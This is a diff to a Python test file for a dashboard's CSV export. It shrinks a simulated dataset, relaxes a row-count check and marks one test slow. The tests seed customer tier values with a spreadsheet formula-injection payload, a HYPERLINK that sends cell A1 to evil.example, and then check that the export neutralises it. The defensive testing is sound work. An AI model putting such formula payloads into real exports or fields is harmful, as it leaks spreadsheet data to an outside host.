@@ -29,7 +29,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Gold")'
 @pytest.fixture(scope="module")
 def hostile_core():
     """A small simulated world whose customers' tier (CRM text) is a spreadsheet formula."""
-    world = generate_world(WorldConfig(seed=3, days=10, conversations_per_day=30,
+    world = generate_world(WorldConfig(seed=3, days=6, conversations_per_day=20,
                                        end=datetime(2026, 11, 18, 15, 30, tzinfo=UTC)))
     tables = dict(world.tables)
     tables["author"] = tables["author"].with_columns(tier=pl.lit(HOSTILE))
@@ -53,10 +53,10 @@ def captured_csv(frame: pl.DataFrame, monkeypatch) -> bytes:
 
 
 def test_item9_the_drilldown_download_neutralises_a_formula_tier(hostile_core, monkeypatch):
-    filters = hostile_core.default_filters(days=10)
+    filters = hostile_core.default_filters(days=6)
     breakdown = build_sla_breakdown(hostile_core, filters, "first_response", "tier")
     drill = build_drilldown(breakdown, HOSTILE)
-    assert drill.rows.height > 20 and set(drill.rows["tier"]) == {HOSTILE}  # the view keeps the value exact
+    assert drill.rows.height > 10 and set(drill.rows["tier"]) == {HOSTILE}  # the view keeps the value exact
     body = captured_csv(drill.rows, monkeypatch)
     read = pl.read_csv(io.BytesIO(body), infer_schema=False)
     assert set(read["tier"]) == {"'" + HOSTILE} and read.height == drill.rows.height
@@ -142,6 +142,7 @@ def test_item11_the_tenant_label_store_folder_and_data_page_hold_no_key(tmp_path
 # ---- item 5: pages around a damaged day ----------------------------------------------------------------------------
 
 
+@pytest.mark.slow  # a demo world of its own, made and damaged
 def test_item5_pages_keep_working_and_the_data_page_names_the_damaged_day(tmp_path, monkeypatch):
     from dashboard.ui import loaders
     from tests.conftest import DEMO_ENV, KHOROS_ENV_NAMES, run_app
